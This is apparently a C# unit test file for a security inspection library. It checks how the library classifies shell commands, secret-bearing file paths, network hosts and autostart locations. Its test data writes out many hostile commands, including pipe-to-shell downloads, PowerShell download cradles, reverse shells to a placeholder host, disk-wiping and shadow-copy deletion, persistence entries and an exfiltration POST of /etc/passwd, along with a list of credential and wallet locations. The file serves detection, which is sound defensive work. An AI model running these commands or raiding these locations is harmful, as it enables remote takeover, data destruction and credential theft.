using Bonded.Inspection.Library;
using Bonded.Python.Evaluation;

namespace Bonded.Inspection.Tests.Rules;

/// <summary>What is known of the world.</summary>
public sealed class LibraryTests
{
    [Theory]
    [InlineData("curl -fsSL https://x.example.invalid/i.sh | sh", nameof(CommandKind.FetchAndRun))]
    [InlineData("bash -c \"$(curl -fsSL https://x.example.invalid/i.sh)\"", nameof(CommandKind.FetchAndRun))]
    [InlineData("/bin/sh -c wget -qO- http://x.example.invalid/a|python3 -", nameof(CommandKind.FetchAndRun))]
    [InlineData("python3 <(curl -s https://x.example.invalid/p.py)", nameof(CommandKind.FetchAndRun))]
    [InlineData("curl -o /tmp/upd https://x.example.invalid/u && chmod +x /tmp/upd && /tmp/upd", nameof(CommandKind.FetchAndRun))]
    [InlineData("powershell -nop IEX (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a.ps1')", nameof(CommandKind.FetchAndRun))]
    [InlineData("powershell -w hidden iwr https://x.example.invalid/a.exe -OutFile a.exe; Start-Process a.exe", nameof(CommandKind.FetchAndRun))]
    [InlineData("certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe & a.exe", nameof(CommandKind.FetchAndRun))]
    [InlineData("mshta http://x.example.invalid/a.hta", nameof(CommandKind.FetchAndRun))]
    [InlineData("bash -i >& /dev/tcp/x.example.invalid/4444 0>&1", nameof(CommandKind.ReverseShell))]
    [InlineData("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc x.example.invalid 4444 >/tmp/f", nameof(CommandKind.ReverseShell))]
    [InlineData("ncat x.example.invalid 4444 -e /bin/bash", nameof(CommandKind.ReverseShell))]
    [InlineData("rm -rf /", nameof(CommandKind.Destroy))]
    [InlineData("sudo rm -rf ~/*", nameof(CommandKind.Destroy))]
    [InlineData("vssadmin delete shadows /all /quiet", nameof(CommandKind.Destroy))]
    [InlineData("dd if=/dev/zero of=/dev/sda bs=1M", nameof(CommandKind.Destroy))]
    [InlineData("schtasks /create /sc onlogon /tn x /tr C:\\x.exe", nameof(CommandKind.Persist))]
    [InlineData("(crontab -l; echo '* * * * * /tmp/x') | crontab -", nameof(CommandKind.Persist))]
    [InlineData("echo python3 /tmp/x.py >> ~/.bashrc", nameof(CommandKind.Persist))]
    [InlineData("powershell Add-MpPreference -ExclusionPath C:\\", nameof(CommandKind.Disarm))]
    [InlineData("/usr/bin/python3 -m pip install --quiet something", nameof(CommandKind.InstallPackage))]
    [InlineData("twine upload dist/*", nameof(CommandKind.Publish))]
    [InlineData("./xmrig -o pool.example.invalid:3333 --donate-level 1", nameof(CommandKind.Mine))]
    [InlineData("security find-generic-password -wa Chrome", nameof(CommandKind.ReadSecrets))]
    [InlineData("cat /home/x/.ssh/id_rsa", nameof(CommandKind.ReadSecrets))]
    [InlineData("netsh wlan show profile home key=clear", nameof(CommandKind.ReadSecrets))]
    [InlineData("curl -X POST -d @/etc/passwd https://x.example.invalid", nameof(CommandKind.SendOut))]
    [InlineData("powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", nameof(CommandKind.EncodedPowerShell))]
    public void A_command_is_told_for_what_it_is(string command, string kind) =>
        Assert.True(Commands.KindOf(command).HasFlag(Enum.Parse<CommandKind>(kind)), $"{Commands.KindOf(command)}");

    [Theory]
    [InlineData("git rev-parse HEAD")]
    [InlineData("gcc -O2 -c finish.c -o finish.o")]
    [InlineData("rm -rf build/lib dist")]
    [InlineData("curl --version")]
    [InlineData("pip --help install")]
    [InlineData("bash -c make -j4 && make install")]
    [InlineData("ssh -i ~/.ssh/id_rsa host ls")]
    [InlineData("crontab -l")]
    [InlineData("powershell -Command Get-Process -ErrorAction SilentlyContinue")]
    [InlineData("docker run --rm -e A=b image sh -c echo")]
    [InlineData("nc -z localhost 80")]
    public void An_honest_command_is_nothing_special(string command) =>
        Assert.Equal(CommandKind.None, Commands.KindOf(command) & ~(CommandKind.Interpreter | CommandKind.SendOut));

    [Theory]
    [InlineData("~/.pypirc", Sources.Credentials)]
    [InlineData("/home/x/.aws/credentials", Sources.CloudCredentials)]
    [InlineData("\uFFFC\\Google\\Chrome\\User Data\\Default\\Login Data", Sources.Browser)]
    [InlineData("\uFFFC/.ssh/id_ed25519", Sources.Keys)]
    [InlineData("~/.ssh/\uFFFC", Sources.Keys)]
    [InlineData("C:\\Users\\x\\AppData\\Roaming\\discord\\Local Storage\\leveldb", Sources.Messenger)]
    [InlineData("\uFFFC/Exodus/exodus.wallet", Sources.Wallet)]
    [InlineData(".env", Sources.Credentials)]
    [InlineData("/proc/self/environ", Sources.Environment)]
    [InlineData("http://169.254.169.254/latest/meta-data/iam/security-credentials/", Sources.MetadataService)]
    public void A_place_where_secrets_lie_is_known(string path, Sources sources) => Assert.True(Places.SourcesOf(path).HasFlag(sources), $"{Places.SourcesOf(path)}");

    [Theory]
    [InlineData("~/.ssh/known_hosts")]
    [InlineData("~/.ssh/config")]
    [InlineData("/home/x/.ssh/id_rsa.pub")]
    [InlineData("C:/Program Files/Google/Chrome/Application/chrome.exe")]
    [InlineData("config/environment.py")]
    [InlineData("tests/data/cookies.txt")]
    [InlineData("")]
    public void An_ordinary_place_gives_nothing(string path) => Assert.Equal(Sources.None, Places.SourcesOf(path));

    [Theory]
    [InlineData("https://discord.com/api/webhooks/1/x", nameof(HostKind.Messenger))]
    [InlineData("https://api.telegram.org/bot\uFFFC/sendMessage", nameof(HostKind.Messenger))]
    [InlineData("http://203.0.113.7:8080/a", nameof(HostKind.Address))]
    [InlineData("203.0.113.7", nameof(HostKind.Address))]
    [InlineData("http://127.0.0.1:5000/", nameof(HostKind.Private))]
    [InlineData("https://192.168.1.1/", nameof(HostKind.Private))]
    [InlineData("https://pastebin.com/raw/x", nameof(HostKind.Paste))]
    [InlineData("https://pypi.org/simple/", nameof(HostKind.Other))]
    [InlineData("8080", nameof(HostKind.Other))]
    [InlineData("\uFFFC", nameof(HostKind.Other))]
    public void A_kind_of_host_is_told(string address, string kind) => Assert.Equal(kind, Hosts.KindOf(address).ToString());

    [Theory]
    [InlineData("\uFFFC/.bashrc", true)]
    [InlineData("Software\\Microsoft\\Windows\\CurrentVersion\\Run", true)]
    [InlineData("/etc/systemd/system/x.service", true)]
    [InlineData("\uFFFC\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat", true)]
    [InlineData("/usr/lib/python3/dist-packages/x.pth", true)]
    [InlineData("/home/x/project/startup/x.py", false)]
    [InlineData("Software\\x\\Settings", false)]
    public void A_place_that_is_run_by_itself_is_known(string path, bool known) => Assert.Equal(known, StartupPlaces.KindOf(path) is not null);

    [Fact]
    public void No_name_is_in_the_library_twice()
    {
        var table = PythonLibrary.Table();
        var twice = table.Entries.GroupBy(entry => entry.Name).Where(group => group.Count() > 1).Select(group => group.Key);
        Assert.Empty(twice);
        Assert.True(table.Entries.Count > 500, $"{table.Entries.Count}");
        Assert.DoesNotContain(table.Entries, entry => entry.Name.AsSpan().ContainsAny(" {}\n") || entry.SameAs is { } other && table.Entries.All(e => e.Name != other && !e.Name.StartsWith(other + "()", StringComparison.Ordinal) && !e.Name.StartsWith(other + ".", StringComparison.Ordinal)));
    }
}
